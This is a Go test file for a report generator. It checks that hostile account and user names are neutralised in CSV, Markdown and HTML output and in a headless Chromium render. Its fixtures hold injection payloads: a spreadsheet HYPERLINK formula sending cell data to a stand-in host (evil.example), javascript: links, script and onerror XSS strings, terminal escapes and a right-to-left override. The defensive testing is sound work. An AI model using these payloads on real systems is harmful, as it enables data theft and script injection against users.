package report

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// Hostile names (docs/bad-input.md, "Hostile names"): a lab, a user and a
// partition name as a site's databases can hold them when anyone may name
// an account or a partition: a spreadsheet formula, a Markdown link to
// javascript:, HTML, terminal escapes (OSC title, BEL, CR, LF, BS, C1
// CSI) and a right-to-left override left open.
const (
	hostileLab = `=HYPERLINK("http://evil.example/?"&A1,"click") [pwn](javascript:alert(3)) <script>alert(2)</script>` +
		"\x1b]0;owned\x07\r\n\u202eevil"
	hostileUser = "@alice<img src=x onerror=alert(1)>\b\u009b31m|"
	hostilePart = "-gpu+1|x"
)

// The same names as every output prints them, written out by hand: control
// characters as \xHH (C1 as \u00HH), and the word holding the override
// (from "<script>" to "evil": CR and LF are spelled out, so they no longer
// separate words) wrapped in FSI … PDI with the override closed by a PDF.
const (
	fsi, pdi, rlo, pdf = "\u2068", "\u2069", "\u202e", "\u202c"
	labVisible         = `=HYPERLINK("http://evil.example/?"&A1,"click") [pwn](javascript:alert(3)) ` +
		fsi + `<script>alert(2)</script>\x1b]0;owned\x07\x0d\x0a` + rlo + "evil" + pdf + pdi
	userVisible = `@alice<img src=x onerror=alert(1)>\x08\u009b31m|`
)

// hostileHistory is tinyHistory with labA, alice and the partition gpu
// renamed to the hostile names.
func hostileHistory() fxHistory {
	h := tinyHistory()
	ren := func(s *string) {
		switch *s {
		case "labA":
			*s = hostileLab
		case "alice":
			*s = hostileUser
		case "gpu":
			*s = hostilePart
		}
	}
	for i := range h.accounts {
		ren(&h.accounts[i].name)
		ren(&h.accounts[i].parent)
	}
	for i := range h.users {
		ren(&h.users[i].name)
		ren(&h.users[i].account)
	}
	for i := range h.jobs {
		ren(&h.jobs[i].user)
		ren(&h.jobs[i].account)
		ren(&h.jobs[i].part)
	}
	for i := range h.priority {
		ren(&h.priority[i].User)
		ren(&h.priority[i].Account)
		ren(&h.priority[i].Partition)
	}
	for i := range h.config.Partitions {
		ren(&h.config.Partitions[i].Name)
	}
	return h
}

// hostileReport is the report of the hostile lab in format f.
func hostileReport(t *testing.T, f string) string {
	t.Helper()
	r, err := Build(t.Context(), fixtureDir(t, "hostile", hostileHistory), hostileLab, period)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := r.Write(&b, f); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// rawControl matches a C0 control but LF, DEL or a C1 control.
var rawControl = regexp.MustCompile("[\x00-\x09\x0b-\x1f\x7f\u0080-\u009f]")

// TestHostileNamesCSV: no cell starts a formula (OWASP: =, +, -, @, TAB,
// CR get a leading '), numbers stay numbers, no control character is
// left, and the names are there as every format prints them.
func TestHostileNamesCSV(t *testing.T) {
	t.Parallel()
	out := hostileReport(t, FormatCSV)
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for n, rec := range recs {
		for _, c := range rec {
			seen[c] = true
			if rawControl.MatchString(c) || strings.Contains(c, "\n") {
				t.Errorf("record %d: cell %q holds a control character", n+1, c)
			}
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !regexp.MustCompile(`^[-+]?[0-9.]+(e[-+]?[0-9]+)?%?$`).MatchString(c) {
				t.Errorf("record %d: cell %q starts a formula", n+1, c)
			}
		}
		if n > 0 && rec[0] != "'"+labVisible {
			t.Errorf("record %d: account %q, want %q", n+1, rec[0], "'"+labVisible)
		}
	}
	for _, want := range []string{"'" + userVisible, "'" + hostilePart} {
		if !seen[want] {
			t.Errorf("no cell %q", want)
		}
	}
}

// TestHostileNamesMarkdown: no live link, image, HTML or emphasis from a
// name, no control character, and every table row on one line with its
// number of cells.
func TestHostileNamesMarkdown(t *testing.T) {
	t.Parallel()
	out := hostileReport(t, FormatMarkdown)
	for _, bad := range []string{"](", "<script", "<img", "\r"} {
		if strings.Contains(out, bad) {
			t.Errorf("Markdown holds %q", bad)
		}
	}
	if m := rawControl.FindString(out); m != "" {
		t.Errorf("Markdown holds the control character %q", m)
	}
	wantHead := "# Fair-share report: " +
		`=HYPERLINK\("http://evil.example/?"&A1,"click"\) \[pwn\]\(javascript:alert\(3\)\) ` +
		fsi + `&lt;script&gt;alert\(2\)&lt;/script&gt;\x1b\]0;owned\x07\x0d\x0a` + rlo + "evil" + pdf + pdi + "\n"
	if !strings.HasPrefix(out, wantHead) {
		t.Errorf("Markdown heading\n%q\nwant\n%q", strings.SplitN(out, "\n", 2)[0], wantHead)
	}
	wantUser := `| @alice&lt;img src=x onerror=alert\(1\)&gt;\x08\u009b31m\| |`
	if !strings.Contains(out, wantUser) {
		t.Errorf("Markdown lacks the user cell %s", wantUser)
	}
	// Table rows: each block of lines starting with '|' keeps one number
	// of unescaped '|' per line, and every row ends with '|'.
	unescaped := regexp.MustCompile(`(^|[^\\])\|`)
	cells := -1
	for i, line := range strings.Split(out, "\n") {
		if !strings.HasPrefix(line, "|") {
			cells = -1
			continue
		}
		n := len(unescaped.FindAllStringIndex(strings.ReplaceAll(line, `\\`, ""), -1))
		if !strings.HasSuffix(line, "|") || (cells >= 0 && n != cells) {
			t.Errorf("line %d breaks its table (%d cells, the table has %d): %q", i+1, n, cells, line)
		}
		if cells < 0 {
			cells = n
		}
	}
}

// TestHostileNamesHTML: HTML escaping holds, controls are spelled out and
// the override is closed and isolated within the name.
func TestHostileNamesHTML(t *testing.T) {
	t.Parallel()
	out := hostileReport(t, FormatHTML)
	if m := rawControl.FindString(out); m != "" {
		t.Errorf("HTML holds the control character %q", m)
	}
	for _, bad := range []string{"<script", "<img"} {
		if strings.Contains(out, bad) {
			t.Errorf("HTML holds %q", bad)
		}
	}
	want := fsi + `&lt;script&gt;alert(2)&lt;/script&gt;\x1b]0;owned\x07\x0d\x0a` + rlo + "evil" + pdf + pdi + " has LevelFS"
	if !strings.Contains(out, want) {
		t.Errorf("HTML lacks the isolated name %q", want)
	}
}

// bidiProbe is appended to the hostile report for Chromium: it records an
// alert (none must run) and whether the word "has" after the lab's name
// in the first explanation paragraph is laid out left to right.
const bidiProbe = `<script>
window.alert = function () { document.body.dataset.alerted = "yes"; };
(function () {
  const p = [...document.querySelectorAll("p")].find(e => e.textContent.includes(" has LevelFS"));
  const tn = p && [...p.childNodes].find(n => n.nodeType === 3 && n.data.includes(" has LevelFS"));
  if (!tn) { document.body.dataset.bidi = "missing"; return; }
  const i = tn.data.indexOf(" has LevelFS") + 1;
  const r = document.createRange();
  const left = k => { r.setStart(tn, k); r.setEnd(tn, k + 1); return r.getBoundingClientRect().left; };
  document.body.dataset.bidi = left(i) < left(i + 2) ? "ltr" : "rtl";
})();
</script>
`

// TestHostileNamesInChromium renders the hostile lab's report in headless
// Chromium: the names are text (no element from them in the DOM, no
// alert), and the text after the right-to-left override is not reversed.
func TestHostileNamesInChromium(t *testing.T) {
	t.Parallel()
	bin := findChromium(t)
	page := hostileReport(t, FormatHTML)
	// Alerts are caught before the body parses: the probe's first line
	// runs at the end, so redefine alert in the head as well.
	page = strings.Replace(page, "</head>", "<script>window.alert = function () { document.documentElement.dataset.alerted = \"yes\"; };</script>\n</head>", 1)
	page = strings.Replace(page, "</body>", bidiProbe+"</body>", 1)
	file := filepath.Join(t.TempDir(), "hostile.html")
	if err := os.WriteFile(file, []byte(page), 0o644); err != nil {
		t.Fatal(err)
	}
	dom, logs := runChromium(t, bin, file, "--dump-dom")
	for _, line := range strings.Split(logs, "\n") {
		if pageErrRe.MatchString(line) {
			t.Errorf("chromium reports a page error: %s", line)
		}
	}
	if strings.Contains(dom, `data-alerted`) {
		t.Error("a script from a name ran (alert called)")
	}
	if n := strings.Count(dom, "<script"); n != 2 {
		t.Errorf("the DOM holds %d scripts, want the probe's 2", n)
	}
	if strings.Contains(dom, "<img") {
		t.Error("a name became an <img> element")
	}
	if !strings.Contains(dom, `data-bidi="ltr"`) {
		i := strings.Index(dom, "data-bidi=")
		t.Errorf("the text after the RTL override is not laid out left to right: %s", dom[i:min(len(dom), i+20)])
	}
}
